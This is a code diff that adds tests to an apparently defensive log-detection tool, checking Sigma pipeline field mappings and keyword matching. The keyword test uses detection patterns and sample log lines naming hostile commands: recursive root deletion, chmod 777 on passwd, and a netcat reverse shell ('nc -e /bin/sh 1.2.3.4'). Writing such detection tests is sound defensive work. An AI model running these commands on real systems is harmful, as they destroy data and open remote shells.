@@ -748,3 +748,47 @@ def test_numeric_comparisons(tmp_path: Path) -> None:
     assert not rule.predicate(auditd(**{"auditd.log.euid": "999", "auditd.log.uid": "0"}))
     assert not rule.predicate(auditd(**{"auditd.log.euid": "1000", "auditd.log.uid": "10"}))
     assert not rule.predicate(auditd(**{"auditd.log.euid": "many", "auditd.log.uid": "0"}))
+
+
+def test_the_pipeline_only_names_datasets_and_fields_the_shipped_collectors_write() -> None:
+    """A pipeline entry pointing at a field no collector writes would make a rule 'mapped' that can never fire."""
+    from sentinel.decode.vocabulary import vocabulary_of
+    from sentinel.detect.sigma.pipeline import shipped_pipeline
+
+    collectors, errors = load_collector_layers([shipped_path("collectors")])
+    assert not errors
+    specs = [c.spec for c in collectors.values()]
+    vocabulary = vocabulary_of(specs)
+    datasets = {str(s.set.get("event.dataset")) for s in specs}
+    raw = {s.raw for s in specs if s.raw}
+    decoder_written = {"event.original", "auditd.log.records"}  # the decoder itself, for every record
+    for entry in shipped_pipeline().by_key.values():
+        assert set(entry.datasets) <= datasets, entry.logsource
+        assert entry.raw is None or entry.raw in raw, entry.logsource
+        targets = [t for v in entry.fields.values() for t in ([v] if isinstance(v, str) else v)]
+        for target in targets + list(entry.where) + [entry.keywords]:
+            from_raw = entry.raw is not None and target.startswith(f"{entry.raw}.")
+            assert from_raw or target in decoder_written or vocabulary.known(target), (entry.logsource, target)
+
+
+def test_a_long_keyword_list_keeps_sigma_semantics(tmp_path: Path) -> None:
+    """Three or more keywords are searched in one pass: still case-insensitive, wildcards, anywhere in the line."""
+    rule = only(tmp_path, """
+        keywords:
+            - 'rm -rf /'
+            - 'chmod 777 *passwd'
+            - 'nc -e ?bin'
+            - 'a.b'
+        condition: keywords
+    """, "{product: linux}")
+
+    def line(text: str) -> bool:
+        return rule.predicate({"event.dataset": "system.auth", "event.original": f"sudo: x : COMMAND={text}"})
+
+    assert line("RM -RF / --no-preserve-root")
+    assert line("chmod 777 /etc/passwd now")
+    assert line("nc -e /bin/sh 1.2.3.4")
+    assert line("a.b")
+    assert not line("axb")  # a dot is a dot, not a regular expression
+    assert not line("chmod 777 /etc/shadow")
+    assert not line("nc -e bin")
